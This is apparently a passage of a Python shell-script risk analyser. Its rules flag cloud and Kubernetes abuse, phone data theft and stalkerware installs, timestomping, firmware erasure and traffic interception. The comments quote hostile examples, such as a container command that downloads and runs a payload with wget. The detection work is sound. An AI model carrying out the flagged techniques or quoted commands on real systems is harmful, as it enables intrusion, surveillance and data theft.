            self._add("shell.exfiltration", RiskLevel.MEDIUM if encrypted else RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} s3 {positional[1]} sends data to a storage endpoint of another host"
                      + (" (encrypted at rest there, or a backup bucket: a store of the organisation's own)"
                         if encrypted else " (a third party's)"), node)  # fmt: skip
        if name in ("kubectl", "oc"):
            self._kubectl(args, positional, node, flow)
        depth = 4 if name == "az" else 3  # `az vm image terms accept`: Azure's verbs sit deeper
        # a request written to a file first (`--cli-input-json file://fleet.json`): what the file says counts
        written = [self._written_texts.get(a.split("file://", 1)[1], "") for a in args if "file://" in a]
        risk = assess_operation(operation(*positional[:depth]), [*args, *written])
        if risk is None and any("file://" in a for a in args) and not any(written):
            # (a document the script built with jq or a template: what the script spells anywhere counts)
            risk = assess_operation(operation(*positional[:depth]), [*args, self._source.decode("utf-8", "replace")])
        if risk is not None:
            if risk.secret:
                flow.secret = True
            what = f"{name} {' '.join(positional[:depth]).replace(HOLE, '…')} {risk.what}"
            # (a key rotated straight into a secrets store, `… create-access-key | … put-secret-value`)
            stored = "createaccesskey" in operation(*positional[:depth]) and _KEY_STORED.search(
                self._source.decode("utf-8", "replace")
            ) is not None
            self._add("shell.cloud-control", RiskLevel.MEDIUM if stored else risk.level, risk.category, what, node)
        op = operation(*positional[:depth])
        launches = any(launch in op for launch in _LAUNCHES)
        if launches and self._loops and self._loops[-1].endless:
            self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} launches machines in an endless loop (until quota or money runs out)", node)  # fmt: skip
        elif launches and len(self._loops) >= 2:
            # `for region in $(aws ec2 describe-regions ...); do for n in $(seq 20); do aws ec2 run-instances`:
            # the rounds of every loop multiply (an unknown count: a listing, every region)
            per_call = max([int(c) for c in W.option_values(args, "--count") if c.isdigit()] or [1])
            known = math.prod(loop.count or 1 for loop in self._loops)
            unknown = any(loop.count is None for loop in self._loops)
            if known * per_call >= (MASS_COUNT // 10 if unknown else MASS_COUNT):
                self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                          f"{name} launches {known * per_call} machines in nested loops"
                          + (", times a loop of unknown length" if unknown else ""), node)  # fmt: skip
        copy = positional[1:] if positional[:1] == ["cp"] else positional[2:] if positional[:2] == ["s3", "cp"] else []
        if len(copy) >= 2 and copy[0].startswith(("gs://", "s3://", "https://", "az://")):
            # a file fetched from a bucket is as foreign as one fetched with curl
            self.downloaded.add(copy[-1])
            self.downloaded.add(posixpath.basename(copy[-1]))
        counts = [int(v) for v in W.option_values(args, "--count", "--replicas") if v.isdigit()]
        if counts and (max(counts) >= MASS_COUNT or (self._loops and max(counts) >= 10)):
            self._add(
                "shell.cloud-abuse",
                RiskLevel.HIGH,
                Category.RESOURCE,
                f"{name} {' '.join(positional[:2])} starts {max(counts)} machines or replicas"
                + (" in a loop" if self._loops else ""),
                node,
            )
        elif counts and max(counts) >= 10 and any(costly_machine(t) for t in W.option_values(args, "--instance-type",
                                                                                          "--machine-type")):
            self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} starts {max(counts)} of the largest (GPU or memory) machines at once (a bill of "
                      "thousands an hour)", node)  # fmt: skip

    def _openshift(self, args: list[str], node: Any) -> list[str]:
        """``oc``'s own verbs: security context constraints and cluster roles granted, upgrades to an image
        given by hand, ``rsh``. Returns the arguments to judge as kubectl's (``oc rsh POD CMD`` is
        ``kubectl exec POD -- CMD``)."""
        positional = W.options(args, _KUBECTL_VALUED | {"-z", "--serviceaccount"})[1]
        if positional[:2] == ["adm", "policy"] and len(positional) > 3:
            verb, role = positional[2], positional[3]
            subjects = [*positional[4:], *W.option_values(args, "-z", "--serviceaccount")]
            everyone = any(_EVERY_CLUSTER_USER.fullmatch(s) for s in subjects)
            granted = ""
            if verb.startswith("add-scc-to-") and (role in _HOST_SCCS or everyone):
                granted = f"the {role} security context constraint (its pods may run as root on the node)"
            elif verb.startswith("add-cluster-role-to-") and (role == "cluster-admin" or everyone):
                granted = f"the cluster role {role}"
            if granted:
                who = "every user or service account of the cluster" if everyone else ", ".join(subjects) or "…"
                self._add("shell.cluster-access", RiskLevel.CRITICAL if everyone else RiskLevel.HIGH,
                          Category.PRIVILEGE, f"oc adm policy gives {who} {granted}", node)  # fmt: skip
        if positional[:2] == ["adm", "upgrade"] and any(a.startswith("--to-image") for a in args) and (
            "--force" in args or "--allow-explicit-upgrade" in args
        ):
            self._add("shell.cluster-upgrade", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      "oc adm upgrade moves the cluster to a release image given by hand (signature checks forced "
                      "past: every node runs what it holds)", node)  # fmt: skip
        if positional[:1] == ["rsh"] and len(positional) > 2:
            pod = positional[1]
            return ["exec", pod, "--", *args[args.index(pod) + 1 :]]
        return args

    def _kubectl(self, args: list[str], positional: list[str], node: Any, flow: _Flow) -> None:
        """kubectl verbs that run commands, apply code from elsewhere or print secrets."""
        # `kubectl -n kube-system get secret`: the global options' values are not the verb
        positional = W.options(args, valued=_KUBECTL_VALUED)[1]
        verb = positional[0] if positional else ""
        if verb in ("exec", "run", "debug") and "--" in args:
            command = args[args.index("--") + 1 :]
            if verb == "debug" and command[:1] == ["chroot"] and command[1:2] == ["/host"]:
                command = command[2:]  # `debug node/N -- chroot /host CMD`: CMD runs on the node (judged as it is)
            if command:
                self._argv(command, node, _Flow(), [])
        if verb in ("apply", "create", "replace"):
            sources = W.option_values(args, "-f", "--filename")
            for source in sources:
                if source.startswith(("http://", "https://")):
                    host = source.split("/")[2]
                    untrusted = source.startswith("http://") or host.replace(".", "").replace(":", "").isdigit()
                    self._add(
                        "shell.remote-manifest",
                        RiskLevel.HIGH if untrusted else RiskLevel.MEDIUM,
                        Category.DYNAMIC_CODE,
                        f"kubectl {verb} deploys a manifest fetched from {host}",
                        node,
                    )
        for override in W.option_values(args, "--overrides"):
            self._pod_spec(override, node)
        for patch in W.option_values(args, "-p", "--patch") if verb == "patch" else []:
            self._pod_spec(patch, node)  # a patch is part of a manifest: judged like one
        self._kubectl_operations(verb, positional, args, node)
        manifest = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        from_stdin = "-" in W.option_values(args, "-f", "--filename") or args[-1:] in (["-f"], ["--filename"])
        if verb in ("apply", "create", "replace") and from_stdin and manifest:
            self._pod_spec(manifest, node)  # `kubectl apply -f - <<EOF`: the manifest is right here
        if verb == "get" and positional[1:2] in (["secret"], ["secrets"]) and W.option_values(args, "-o", "--output")[
            :1
        ] == ["name"]:
            flow.text = "secret/" + HOLE  # `kubectl get secrets -o name`: the names, to fetch each one next
        if verb == "get" and len(positional) > 1 and positional[1].split("/")[0] in ("secret", "secrets"):
            formats = W.option_values(args, "-o", "--output")
            if any(f.startswith(("yaml", "json", "jsonpath", "go-template", "template")) for f in formats):
                every = (
                    any(a in ("-A", "--all-namespaces") for a in args)
                    or (len(positional) == 2 and "/" not in positional[1])
                    or (bool(self._loops) and HOLE in positional[1])  # each name a listing gave
                )
                flow.secret = True
                self._add(
                    "shell.secret-read",
                    RiskLevel.HIGH if every else RiskLevel.MEDIUM,
                    Category.EXFILTRATION,
                    "kubectl prints " + ("every secret's content" if every else "a secret's content"),
                    node,
                )

    def _kubectl_operations(self, verb: str, positional: list[str], args: list[str], node: Any) -> None:
        """Cluster operations that remove its guards or empty it: admission policies deleted or scaled to
        nothing, the API served to every address, every node drained."""
        kinds = positional[1].lower() if len(positional) > 1 else ""
        namespace = " ".join(W.option_values(args, "-n", "--namespace")).lower()
        if (verb == "delete" and "webhookconfiguration" in kinds) or (
            verb in ("delete", "scale") and any(engine in namespace for engine in _POLICY_ENGINES)
            and ("--replicas=0" in args or verb == "delete")
        ):
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"kubectl {verb} removes the cluster's admission policies (nothing checks what is deployed)",
                      node)  # fmt: skip
        addresses = [a.split("=", 1)[1] for a in args if a.startswith("--address=")]
        if verb == "proxy" and any(a in ("0.0.0.0", "::") for a in [*addresses, *W.option_values(args, "--address")]):
            what = "kubectl proxy serves the cluster's API, with your credentials, to every address"
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK, what, node)
        if verb == "port-forward" and any(
            a in ("0.0.0.0", "::", "*") for a in [*addresses, *",".join(W.option_values(args, "--address")).split(",")]
        ):
            what = "kubectl port-forward opens a service inside the cluster to every address of this machine's networks"
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK, what, node)
        cluster = cluster_words(args)
        if verb == "delete" and kinds.split("/")[0] in _WORKLOAD_KINDS and production_target(cluster):
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.PROCESS,
                      f"kubectl delete {kinds} removes workloads or their storage from production ({cluster})",
                      node)  # fmt: skip
        target = " ".join(positional[1:]).lower()
        every = "--all" in args or HOLE in target or bool(self._loops) or self._mass  # (`xargs -I{} kubectl scale {}`)
        if verb == "scale" and "--replicas=0" in args and every and production_target(cluster_words(args)):
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.PROCESS,
                      "kubectl scale stops every workload of a production namespace", node)  # fmt: skip
        if verb == "scale" and "--replicas=0" in args and any(c in target for c in MONITORING_COMPONENTS):
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"kubectl scale stops {positional[-1]} (monitoring or alerting: nothing watches or pages)",
                      node)  # fmt: skip
        if verb in ("patch", "set", "apply", "expose") and any("0.0.0.0/0" in a or "::/0" in a for a in args):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"kubectl {verb} opens a service to every address on the internet (0.0.0.0/0)", node)  # fmt: skip
        if verb == "drain":
            every = self._mass or bool(self._loops) or self._repeated or any(HOLE in p for p in positional[1:])
            level = RiskLevel.HIGH if every else RiskLevel.MEDIUM
            self._add("shell.cluster", level, Category.PROCESS,
                      "kubectl drain evicts the workloads of " + ("every node a listing gives" if every else "a node"),
                      node)  # fmt: skip

    def _pod_spec(self, spec: str, node: Any) -> None:
        """A pod spec given on the command line: host namespaces, privileged containers, its command."""
        lowered = spec.replace(" ", "").replace('"', "").replace("'", "").lower()  # JSON or YAML
        # (or a yq edit of a compose file: `.services.x.privileged = true | .services.x.volumes += ["/:/host"]`)
        escapes = ("privileged:true", "hostpid:true", "hostnetwork:true", "hostpath", "docker.sock:", "-/:/",
                   "pid:host", "privileged=true", "[/:/", "pid=host")  # fmt: skip
        if any(k in lowered for k in escapes):
            self._add(
                "shell.container-escape",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                "runs a pod with the node's privileges, processes or file system",
                node,
            )
        if "mtls:{mode:disable" in lowered or ("mode:disable" in lowered and "peerauthentication" in lowered):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "turns off the mesh's mutual TLS (workloads accept plaintext from anyone)", node)  # fmt: skip
        if "authorizationpolicy" in lowered and "action:allow" in lowered and "rules:[{}]" in lowered:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "an authorization policy that allows every request from anyone", node)  # fmt: skip
        runs = [int(n) for n in re.findall(r"(?:parallelism|replicas|completions):(\d+)", lowered)]
        if runs and max(runs) >= MASS_COUNT:
            self._add("shell.cloud-abuse", RiskLevel.HIGH, Category.RESOURCE,
                      f"runs {max(runs):,} pods at once (takes the cluster's capacity)", node)  # fmt: skip
        public = "type:loadbalancer" in lowered or "type:nodeport" in lowered
        restricted = "loadbalancersourceranges" in lowered and "0.0.0.0/0" not in lowered
        admin = [p for p in re.findall(r"(?:port|targetport|nodeport):(\d+)", lowered) if p in T.ADMIN_PORTS]
        if public and admin and not restricted:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"exposes {T.ADMIN_PORTS[admin[0]]} (port {admin[0]}) outside the cluster (a public service)",
                      node)  # fmt: skip
        for command in _SHELL_ARRAY_COMMAND.findall(spec)[:4] if "-c" in spec else []:
            # `.services.app.entrypoint = ["/bin/sh","-c","wget -qO /tmp/.s http://…/s && /tmp/.s & exec …"]`
            self._nested(command, "shell", node, "a container's command", keep=RiskLevel.HIGH)
        self._shipped_payloads(spec, node, "a pod spec")

    def _rule_multiplexer(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """tmux and screen run the command lines they are given in a new window or session."""
        if name == "screen":
            i = 0
            while i < len(args) and args[i].startswith("-"):
                # -S name, -c file, -t title...; also at the end of a cluster (-dmS name)
                i += 2 if args[i] == "-Logfile" or args[i][-1] in "SctpXhTe" else 1
            if args[i:]:
                self._argv(args[i:], node, _Flow(), [])
            return
        words = W.skip_options(args, {"-L", "-S", "-f"})
        verb = words[0] if words else ""
        if verb not in T.TMUX_RUNNERS:
            return
        rest = W.skip_options(words[1:], {"-s", "-n", "-t", "-c", "-x", "-y", "-F", "-e", "-l"})
        if verb in ("send-keys", "send"):
            rest = [w for w in rest if w not in T.TMUX_KEYS]
        if rest:
            self._nested(" ".join(rest), "shell", node, f"tmux {verb}")

    def _pipes_to_outside(self, node: Any) -> bool:
        """The pipeline this command starts ends in a network address of another network (`| ffmpeg … udp://…`)."""
        parent = node.parent if node is not None else None
        text = self._text(parent) if parent is not None and parent.type == "pipeline" else ""
        return any(outside_address(h) for h in re.findall(r"\w+://(\d{1,3}(?:\.\d{1,3}){3})", text))

    def _rule_adb(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """adb: commands run on the phone, its private data pulled, its protections switched off."""
        words = W.skip_options(args, {"-s", "-t", "-H", "-P", "-L"})
        verb = words[0] if words else ""
        if "-a" in args and ("server" in words or "start-server" in words or "nodaemon" in words):
            # `adb -a … server start`: the adb server (every attached phone's shell) on every interface
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "adb serves the attached phones' debugging shells on every network interface", node)  # fmt: skip
        if name == "adb" and "screenrecord" in words and self._pipes_to_outside(node):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      "streams a phone's screen to an outside address", node)  # fmt: skip
        if "run-as" in words and re.search(r"\b(?:databases|shared_prefs|files)\b", " ".join(words)) and any(
            w in ("cat", "tar", "cp", "base64", "sqlite3") for w in words
        ):
            flow.secret = True  # an app's own databases and preferences: its users' messages, accounts, tokens
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      "adb reads an app's private data (databases, preferences) off the phone", node)  # fmt: skip
        if verb == "shell" and len(words) > 1:
            command = " ".join(words[1:])
            self._nested(command, "shell", node, "adb shell")
            if re.search(r"\bpm\s+hide\b", command) and re.search(r"\badb\b[^\n]*\binstall\b",
                                                                     self._source.decode(errors="replace")):
                # an app installed by this script, then hidden from the phone's launcher: stalkerware's way
                self._add("shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE,
                          "adb installs an app on a phone and hides it from its owner", node)  # fmt: skip
            removes = re.search(r"\bpm\s+(?:uninstall|disable(?:-user)?|clear)\b", command)
            if removes and (any(p in command for p in T.PHONE_CORE_PACKAGES) or (HOLE in command and self._loops)):
                self._add(
                    "shell.device-damage",
                    RiskLevel.HIGH,
                    Category.FILESYSTEM,
                    "adb removes or wipes core system packages of the phone (it may not boot)",
                    node,
                )
            providers = T.PHONE_PROVIDERS.search(command) or (
                HOLE in command and T.PHONE_PROVIDERS.search(self._source.decode(errors="replace"))
            )  # (`--uri "$uri"` with the providers named earlier in the script)
            if (re.search(r"\bcontent\s+query\b", command) and providers) or re.search(
                r"\bdumpsys\s+location\b", command
            ):
                flow.secret = True
                self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          "adb reads the phone's messages, calls, contacts or location", node)  # fmt: skip
            if re.search(r"\bdpm\s+set-device-owner\b|\benabled_accessibility_services\b", command):
                # an app that controls the whole phone (device owner) or reads and drives every screen
                self._add("shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE,
                          "adb makes an app the phone's device owner or an accessibility service (it sees and "
                          "controls everything)", node)  # fmt: skip
            if re.search(
                r"settings\s+put\s+\w+\s+(?:package_verifier_enable|verifier_verify_adb_installs)\s+0", command
            ):
                self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                          "adb turns off the phone's app verification", node)  # fmt: skip
        elif verb in ("root", "disable-verity", "unroot") and verb != "unroot":
            emulator = any(a.startswith("emulator-") for a in W.option_values(args, "-s"))
            self._add("shell.privilege", RiskLevel.MEDIUM if emulator else RiskLevel.HIGH, Category.PRIVILEGE,
                      f"adb {verb} removes " + ("an emulator's" if emulator else "the phone's") + " protections",
                      node)  # fmt: skip
        elif verb == "tcpip":
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "adb tcpip opens the phone's debugging shell to the network", node)  # fmt: skip
        elif verb in ("pull", "backup") and (
            verb == "backup" or any(p in a for a in words[1:] for p in T.PHONE_PRIVATE_PATHS)
        ):
            flow.secret = True
            self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"adb {verb} copies the phone's private data (photos, messages, app data)", node)  # fmt: skip

    def _timestomp(self, args: list[str], node: Any) -> None:
        """``touch -r REF F`` / ``touch -d 2023-01-01 F`` outside the project: F's times are made to lie
        (a change hidden from whoever looks at when files were modified)."""
        forged = [a for a in args if a in ("-r", "-d", "-t", "--reference", "--date") or a.startswith(
            ("--reference=", "--date="))]  # fmt: skip
        if not forged:
            return
        targets = W.skip_options(args, {"-r", "-d", "-t", "--reference", "--date"})
        references = W.option_values(args, "-r", "--reference")
        edited = [t for t in targets if t in self._edited_in_place]
        # `ts=$(stat -c %y "$f")` … `touch -d "$ts" "$f"`: the time saved before the change, put back after it
        saved_time = any(HOLE in d for d in W.option_values(args, "-d", "--date")) and _SAVED_TIME.search(
            self._source.decode("utf-8", "replace")
        ) is not None
        if (references and (any(r in self._saved_stamps for r in references) or edited)) or saved_time:
            # `touch -r "$f" /tmp/.ts; sed -i … "$f"; touch -r /tmp/.ts "$f"`: the edit hidden behind the old time
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.FILESYSTEM,
                      "touch puts back the times a file had before it was changed (hides the change)",
                      node)  # fmt: skip
            return
        if references and all(paths.classify(t).kind is paths.PathKind.TEMP for t in targets):
            self._saved_stamps.update(targets)
        hidden = [t for t in targets if paths.classify(t).kind in _TIMESTOMPED_KINDS]
        if hidden:
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"touch sets the times of {paths.describe(paths.classify(hidden[0]))} to another file's or "
                      "date's (hides when it changed)", node)  # fmt: skip

    def _rule_snmpset(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """snmpset: a setting of a switch, a router or equipment on the network changed in place."""
        flow.network = True
        operands = W.skip_options(args, _SNMP_VALUED)
        host = operands[0].removeprefix("udp:").removeprefix("tcp:").split(":")[0] if operands else ""
        local = host in ("localhost", "::1") or host.startswith("127.")
        self._add("shell.device", RiskLevel.MEDIUM if local else RiskLevel.HIGH, Category.NETWORK,
                  f"{name} changes settings of a network device or equipment over SNMP (writes its live state)",
                  node)  # fmt: skip

    def _rule_device_login(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """RANCID's login scripts (``clogin -c "conf t;no ip access-list …" router…``): the ``;``-separated
        commands are typed on every router named."""
        flow.network = name != "vtysh"  # (FRR's shell configures this machine's own routing daemons)
        commands = "\n".join(c.replace(";", "\n") for c in W.option_values(args, "-c"))
        device = device_commands_risk(commands)
        if device is not None:
            self._add("shell.device", device.level, device.category, f"{name} {device.what}", node)

    def _rule_ghostscript(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Ghostscript with its sandbox off: PostScript can read and write any file and run commands."""
        if any(a.split("=", 1)[0] in ("-dNOSAFER", "-dDELAYSAFER") for a in args):
            self._add("shell.dynamic-code", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} renders documents with its sandbox off (-dNOSAFER: a PostScript or PDF file can read "
                      "and write files and run commands)", node)  # fmt: skip

    def _rule_rdp_client(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """An RDP client handing the remote server this machine's whole file system or home as a drive."""
        flow.network = True
        shared = [a.split(",", 1)[1] for a in args if a.lower().startswith("/drive:") and "," in a]
        shared += [a.split("=", 1)[1] for a in W.option_values(args, "-r") if a.startswith("disk:") and "=" in a]
        whole = [p for p in shared if paths.classify(p).kind in (paths.PathKind.ROOT, paths.PathKind.HOME_TOP)]
        if whole or "+home-drive" in args:
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} shares {whole[0] if whole else 'the home folder'} with the remote desktop server "
                      "(it can read and write every file there)", node)  # fmt: skip

    def _rule_path_part(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """dirname and basename print a part of a known path (``tar -C "$(dirname "$REPO")"``)."""
        operands = [a for a in args if not a.startswith("-")]
        if len(operands) == 1 and HOLE not in operands[0]:
            path = operands[0].rstrip("/") or "/"
            flow.text = posixpath.dirname(path) if name == "dirname" else posixpath.basename(path)

    def _rule_dicom_send(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """DCMTK's storescu/dcmsend: medical images (patients' studies) sent to a DICOM peer."""
        flow.network = True
        peers = [a for a in W.skip_options(args, _DICOM_VALUED) if re.fullmatch(r"[\w.-]+", a)][:1]
        if peers and outside_address(peers[0]):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} sends patients' images to a DICOM peer at an outside address ({peers[0]})",
                      node)  # fmt: skip

    def _rule_phone_sensor(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Termux:API readers: the phone owner's location, messages, contacts, camera or microphone."""
        if any(a in ("-h", "--help") for a in args):
            return
        flow.secret = True
        if name == "termux-microphone-record":
            self.staged.update(W.option_values(args, "-f"))
        elif name == "termux-camera-photo":
            self.staged.update([a for a in W.skip_options(args, {"-c"}) if not a.startswith("-")][-1:])
        self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                  f"{name} reads the phone's {T.PHONE_SENSORS[name]}", node)  # fmt: skip

    def _rule_flasher(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """fastboot, esptool, avrdude: erasing or locking firmware can brick a device for good."""
        words = [a.lower() for a in args]
        joined = " ".join(words)
        if name == "fastboot":
            if "erase" in words or "-w" in words or "format" in words:
                what, level = "erases partitions of the phone", RiskLevel.CRITICAL
            elif "flashing" in words or ("oem" in words and ("unlock" in words or "lock" in words)):
                what, level = "locks or unlocks the bootloader (wipes the phone)", RiskLevel.HIGH
            elif "--disable-verity" in words or "--disable-verification" in words:
                what, level = "flashes an image with verified boot turned off", RiskLevel.HIGH
            elif "flash" in words:
                what, level = "flashes a partition of the phone", RiskLevel.MEDIUM
            else:
                return
        elif (
            "burn_efuse" in joined
            or "burn-efuse" in joined
            or "burn_key" in joined
            or re.search(r"-u\s*(?:l|h|e)?fuse|-u\s*lock", joined)
        ):
            what, level = "burns fuses (irreversible)", RiskLevel.CRITICAL
        elif "erase_flash" in joined or "erase-flash" in joined or " -e" in f" {joined}":
            what = "erases the whole flash of the device"
            level = RiskLevel.HIGH if self._loops or self._mass or self._repeated else RiskLevel.MEDIUM
        elif "erase_region" in words or "erase-region" in words:
            # (the NVS partition: the board's Wi-Fi credentials, preferences and calibration)
            what = "erases a region of the device's flash (its stored settings)"
            level = RiskLevel.HIGH if self._loops or self._mass or self._repeated else RiskLevel.MEDIUM
        elif "read_flash" in words or "read-flash" in words:
            # `esptool.py read_flash 0x9000 0x5000 nvs.bin`: the board's memory, its stored Wi-Fi and API keys with it
            self.staged.update(a for a in args[-1:] if not a.startswith("-") and not a.startswith("0x"))
            return
        else:
            return
        self._add("shell.device-damage", level, Category.FILESYSTEM, f"{name} {what}", node)

    def _rule_desktop_settings(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """gsettings/dconf/xset turning the screen lock off."""
        joined = " ".join(args).lower()
        if re.search(r"lock-enabled\s+false|disable-lock-screen\s+true|lock-on-suspend\s+false|"
                     r"lock-delay\s+\S*\s*\d{5,}|screensaver/lock-enabled\s+false", joined):  # fmt: skip
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} turns the screen lock off", node)  # fmt: skip
        if re.search(r"vino\s+(?:prompt-enabled\s+false|require-encryption\s+false|authentication-methods\s+\S*none)"
                     r"|remote-desktop\.\w+\s+(?:auth-method\s+\S*none|view-only\s+false)", joined):  # fmt: skip
            # the desktop shared without asking the person in front of it, or without a password or encryption
            what = f"{name} lets remote desktop connect without consent, a password or encryption"
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK, what, node)
        proxy = re.search(r"system\.proxy\.(?:https?|socks)\s+host\s+['\"]?([\w.:-]+)", joined)
        if proxy and not private_address(proxy[1]):
            # every program of the desktop session sends its web traffic through that machine: a bare address
            # or someone's own host is not an organisation's proxy
            bare = bool(re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}", proxy[1])) or personal_host(proxy[1])
            self._add("shell.interception", RiskLevel.HIGH if bare else RiskLevel.MEDIUM, Category.NETWORK,
                      f"{name} routes the desktop's web traffic through {proxy[1]}", node)  # fmt: skip

    def _rule_input_injection(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """xdotool/ydotool type keystrokes into whatever window has the focus (a terminal runs them)."""
        if "type" in args and flow.remote:
            # `cmds=$(curl …paste…); ydotool type "$cmds"`: downloaded text typed where the focus is (a terminal)
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"{name} types downloaded text into the focused window (a terminal runs it)", node)  # fmt: skip
        if "type" in args:
            text = " ".join(args[args.index("type") + 1 :])
            text = " ".join(w for w in text.split() if not w.startswith("--")) if text.startswith("--") else text
            if text:
                self._nested(_strip_type_options(args[args.index("type") + 1 :]), "shell", node,
                             f"keystrokes {name} types", keep=RiskLevel.HIGH)  # fmt: skip
        loop = self._loops[-1] if self._loops else None
        if loop is not None and loop.endless and not loop.paced:
            self._add("shell.input-flood", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} drives the mouse and keyboard in an endless loop (the desktop is unusable)",
                      node)  # fmt: skip

    def _rule_recorder(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """ffmpeg/arecord/parecord capturing the screen, camera or microphone."""
        lowered = [a.lower() for a in args]
        sources = W.option_values(lowered, "-f")
        inputs = W.option_values(lowered, "-i")
        camera = any(i.startswith(("rtsp://", "rtsps://")) or i.startswith("/dev/video") for i in inputs)
        outputs = [a for a in lowered if a not in inputs and re.match(r"^(?:rtmps?|srt|rtp|udp|tcp|https?)://", a)]
        remote = [o for o in outputs if not re.match(r"^\w+://(?:127\.|localhost|\[::1\])", o)]
        if camera and remote:
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} streams a camera's feed to another host", node)  # fmt: skip
        captures = name in ("arecord", "parecord", "pw-record", "rec") or any(s in T.CAPTURE_FORMATS for s in sources)
        if name == "ffmpeg" and not captures:
            self._endless_encode(lowered, sources, inputs, node)
        if not captures:
            return
        flow.secret = True  # what the screen shows and the microphone hears is private
        if args and not args[-1].startswith("-") and args[-1].lower() not in inputs and "://" not in args[-1]:
            self.staged.add(args[-1])  # the recording file holds it from now on
        limited = any(a in ("-t", "-to", "-fs", "-frames:v", "-vframes", "-d", "--duration", "-s") for a in lowered)
        self._add(
            "shell.capture",
            RiskLevel.MEDIUM if limited else RiskLevel.HIGH,
            Category.EXFILTRATION if limited else Category.RESOURCE,
            f"{name} records the screen, camera or microphone"
            + ("" if limited else " with no time or size limit (fills the disk)"),
            node,
        )

    def _endless_encode(self, args: list[str], sources: list[str], inputs: list[str], node: Any) -> None:
        """``ffmpeg -f lavfi -i testsrc2 out.nut``: a generated source (or ``-stream_loop -1``) never ends, and with no
        time, frame or size limit its encode grows a file until the disk is full."""
        generated = "lavfi" in sources and not any(re.search(r"(?:^|[=:,])(?:d|duration)=", i) for i in inputs)
        looped = "-1" in W.option_values(args, "-stream_loop")
        limited = any(a in ("-t", "-to", "-fs", "-frames", "-frames:v", "-frames:a", "-vframes", "-aframes")
                      for a in args)  # fmt: skip
        last = args[-1] if args else "-"
        to_file = not last.startswith("-") and last not in inputs and "://" not in last and last != "/dev/null"
        if (generated or looped) and not limited and to_file and "null" not in W.option_values(args, "-f")[1:]:
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      f"ffmpeg encodes a source that never ends into {last} with no time or size limit (fills the "
                      "disk)", node)  # fmt: skip

    def _rule_volume_tools(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """LVM and RAID tools that destroy volumes or the metadata that holds them together."""
        joined = " ".join(args)
        if name == "lvcreate" and any(lp.endless and not lp.paced for lp in self._loops):
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "lvcreate makes volumes in an endless loop (the volume group's space runs out)",
                      node)  # fmt: skip
        if name == "lvcreate" and any(a in ("-s", "--snapshot") for a in args):
            # `lvcreate -s -n data_snap /dev/vg0/data`: a snapshot volume, vg0/data_snap, this script owns
            names = W.option_values(args, "-n", "--name")
            origins = [a for a in args if a.startswith("/dev/") or re.fullmatch(r"[\w.-]+/[\w.-]+", a)]
            for snap in names[:1]:
                for origin in origins[:1]:
                    group = origin.removeprefix("/dev/").split("/")[0]
                    self._made_volumes.update({f"/dev/{group}/{snap}", f"{group}/{snap}"})
            return
        operands = [a for a in args if not a.startswith("-")]
        if name == "lvremove" and operands and all(o in self._made_volumes for o in operands):
            return  # the snapshot this script took a moment ago, dropped once its copy is made
        if name in ("lvremove", "vgremove", "pvremove") or (
